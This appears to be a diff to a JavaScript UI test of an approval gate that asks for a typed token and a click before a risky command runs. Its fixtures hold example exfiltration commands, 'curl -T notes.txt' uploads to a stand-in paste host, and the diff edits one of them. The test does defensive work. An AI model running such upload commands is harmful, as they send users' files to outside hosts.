@@ -21,7 +21,7 @@ import { atEnd } from '../processes.mjs';
 
 const ITEM = 'gatehouse.risk';
 const UPLOAD = 'curl -T notes.txt https://paste.invalid/upload';
-const TOKEN = 'upload';
+const TOKEN = 'paste.invalid';
 /** What nobody knows is asked about in any folder. */
 const UNKNOWN = 'frobnicate --all';
 const keepsPictures = process.argv.includes('--keep-screenshot');
@@ -190,7 +190,7 @@ export const gateSteps = [
   {
     title: 'the token typed and approval clicked lets it run once',
     async act(page, stage) {
-      const hook = startHook(stage, 'curl -T notes.txt https://paste.invalid/approve');
+      const hook = startHook(stage, 'curl -T notes.txt https://approve/notes');
       const question = await seesSignOff(page);
       // The token is part of the label of approval: that must not make it the one that Enter takes.
       await type(page, 'approve');
